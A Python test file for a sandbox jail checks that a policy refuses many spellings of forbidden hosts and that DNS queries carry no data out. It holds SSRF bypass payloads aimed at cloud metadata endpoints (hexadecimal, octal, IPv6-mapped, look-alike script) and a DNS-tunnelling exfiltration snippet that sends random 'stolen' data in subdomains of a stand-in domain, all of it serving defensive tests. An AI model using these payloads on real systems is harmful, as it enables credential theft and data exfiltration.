"""Every spelling of a host: numbers in other bases, mapped addresses, dots, case, other scripts, user information,
metadata services, private networks. Defence: the resolver gives addresses to allowed names alone; the firewall refuses
what was not given; both on record. Node resolves and normalises as browsers do, which is what the spellings are for.
"""

from __future__ import annotations

import http.server
import json
import shutil
import socket
import subprocess
import threading
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from akios_jail import kernel
from tests.attacks.attack import Attack, Family, Outcomes, Record, judge, undeclared
from tests.attacks.rooms import ALONE, all_addresses_local, in_jail, placed
from tests.e2e.conftest import Akios, Run
from tests.jail.contained import contained

pytestmark = pytest.mark.root

NUMBERS = {
    "a metadata service": "http://169.254.169.254/latest/meta-data/",
    "a metadata service as one number": "http://2852039166/",
    "a metadata service in hexadecimal": "http://0xA9FEA9FE/",
    "a metadata service in octal": "http://0251.0376.0251.0376/",
    "a metadata service in mixed bases": "http://169.0xFE.43518/",
    "a metadata service, IPv6-mapped": "http://[::ffff:169.254.169.254]/",
    "a metadata service, mapped in hexadecimal": "http://[::ffff:a9fe:a9fe]/",
    "a metadata service of IPv6": "http://[fd00:ec2::254]/",
    "a metadata service, in wide digits": "http://\uff11\uff16\uff19.254.169.254/",
    "a private network": "http://10.0.0.5/",
    "a public address that nobody named": "http://93.184.215.14/",
    "a documentation address of IPv6": "http://[2001:db8::7]/",
    "an address of those that the resolver gives, not given": "http://198.18.77.77/",
    "the address of no host": "http://0.0.0.0/",
    "the address of no host, short": "http://0/",
    "a broker's port": "http://127.0.0.1:61080/",
    "a broker's port, another loopback address": "http://127.9.9.9:61080/",
    "a port that is not allowed": "http://198.18.0.1:8080/",
}
NAMES = {
    "another name": "http://evil.test/",
    "another name in capitals": "http://EVIL.TEST/",
    "another name with a last dot": "http://evil.test./",
    "an allowed name below another": "http://allowed.test.evil.test/",
    "a name below an allowed one": "http://below.allowed.test/",
    "a name that ends as an allowed one": "http://notallowed.test/",
    "an allowed name before a fragment's sign": "http://evil.test#allowed.test/",
    "an allowed name before a backslash": "http://evil.test\\allowed.test/",
    "an allowed name in a look-alike script": "http://\u0430llowed.test/",
    "a name that means the host of a container": "http://host.docker.internal/",
    "a name of a metadata service": "http://metadata.google.internal/",
    "stolen words as a name": "http://c3RvbGVuIHdvcmRz.evil.test/",
}
FAMILY = Family(
    "Spellings of a host",
    "names by the resolver, addresses by the firewall",
    "the same program where every address and name leads to a server that answers",
    tuple(Attack(name, ("ECONNREFUSED", "ENOTFOUND")) for name in (*NUMBERS, *NAMES)),
)


class Reached(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"reached")

    def log_message(self, *_: object) -> None:
        pass


class Everywhere(http.server.ThreadingHTTPServer):
    """A server for both versions of the protocol."""

    address_family = socket.AF_INET6


def laid_out(folder: Path) -> str:
    (folder / "hosts.json").write_text(json.dumps({**NUMBERS, **NAMES}))
    return placed("hosts.mjs", folder).name


def node() -> str:
    found = shutil.which("node")
    assert found is not None, "Node is needed: scripts/setup --test"
    return found


@pytest.fixture(scope="module")
def governed(jailer: Akios) -> Run:
    jailer.policy({"network_access": {"allowlist": [{"host": "allowed.test", "protocol": "http"}]}})
    return in_jail(jailer, node(), laid_out(jailer.workspace))


@pytest.fixture(scope="module")
def everywhere(loose: Path) -> Outcomes:
    """What the program reaches in a network where all addresses are local, with a server, and all names are known."""
    script = laid_out(loose)
    names = {str(urlsplit(url.replace("\\", "/")).hostname).encode("idna").decode() for url in NAMES.values()}
    hosts = loose / "hosts"
    hosts.write_text("".join(f"192.0.2.1 {name}\n" for name in names))

    def act() -> str:
        kernel.make_private("/")
        subprocess.run(["mount", "--bind", str(hosts), "/etc/hosts"], check=True, timeout=20)
        all_addresses_local()
        for port in (80, 8080, 61080):
            server = Everywhere(("::", port), Reached)
            threading.Thread(target=server.serve_forever, daemon=True).start()
        done = subprocess.run([node(), script], cwd=loose, stdout=subprocess.PIPE, check=True, timeout=60)
        return done.stdout.decode()

    found: Outcomes = json.loads(contained(act, ALONE))
    return found


@pytest.mark.parametrize("attack", FAMILY.attacks, ids=lambda attack: attack.name)
def test_it_is_refused(attack: Attack, governed: Run, everywhere: Outcomes, record_property: Record) -> None:
    judge(FAMILY, attack, governed.said, everywhere, record_property)


def test_it_is_on_record(governed: Run) -> None:
    told = json.dumps(governed.denials())
    for word in ("169.254.169.254", "10.0.0.5", "evil.test", "below.allowed.test", "metadata.google.internal"):
        assert word in told, word


def test_everything_that_is_tried_is_declared(governed: Run, everywhere: Outcomes) -> None:
    assert not undeclared(FAMILY, governed.said, everywhere)


def test_an_address_that_was_never_given_out_leads_nowhere(akios: Akios) -> None:
    akios.allow("*.example.com")
    run = akios.python(
        """
        import json, socket
        def dial(address):
            try:
                with socket.create_connection((address, 443), timeout=5) as stream:
                    stream.sendall(b"\\x16\\x03\\x01\\x00\\x05hello")
                    return stream.recv(100).hex()
            except OSError as error:
                return type(error).__name__
        print(json.dumps([dial(f"198.19.0.{last}") for last in range(1, 30)]))
        """
    )
    assert set(run.said) <= {"ConnectionRefusedError", "ConnectionResetError", ""}, run


def test_names_carry_nothing_out(akios: Akios) -> None:
    run = akios.python(
        """
        import json, os, socket, struct
        def ask(name, kind):
            labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
            query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.settimeout(5)
                sender.sendto(query, ("8.8.8.8", 53))
                answer = sender.recv(4096)
            return [answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]
        stolen = os.urandom(20).hex()
        print(json.dumps({
            "below": ask(f"{stolen}.api.openai.com", 1),
            "elsewhere": ask(f"{stolen}.evil.example", 1),
            "text": ask("api.openai.com", 16),
            "mail": ask("api.openai.com", 15),
            "allowed": ask("api.openai.com", 1),
        }))
        """
    )
    NXDOMAIN = 3
    assert run.said["below"] == run.said["elsewhere"] == [NXDOMAIN, 0], run
    assert run.said["text"][1] == run.said["mail"][1] == 0
    assert run.said["allowed"] == [0, 1]
